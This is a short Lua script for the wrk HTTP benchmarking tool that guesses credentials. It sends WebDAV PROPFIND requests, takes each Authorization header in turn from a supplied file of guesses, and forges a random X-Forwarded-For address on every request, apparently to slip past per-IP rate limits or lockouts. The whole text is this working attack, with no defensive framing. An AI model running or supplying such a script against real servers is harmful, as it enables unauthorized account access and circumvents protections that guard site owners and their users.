-- Guesses: each request has the next line of a file as its Authorization, and an address of its own.
local lines, at = {}, 0

function init(arguments)
  for line in io.lines(arguments[1]) do lines[#lines + 1] = line end
end

function request()
  at = at % #lines + 1
  local from = string.format("198.51.%d.%d", math.random(0, 255), math.random(1, 254))
  return wrk.format("PROPFIND", nil, {
    ["Authorization"] = lines[at], ["Depth"] = "0", ["X-Forwarded-For"] = from,
  })
end
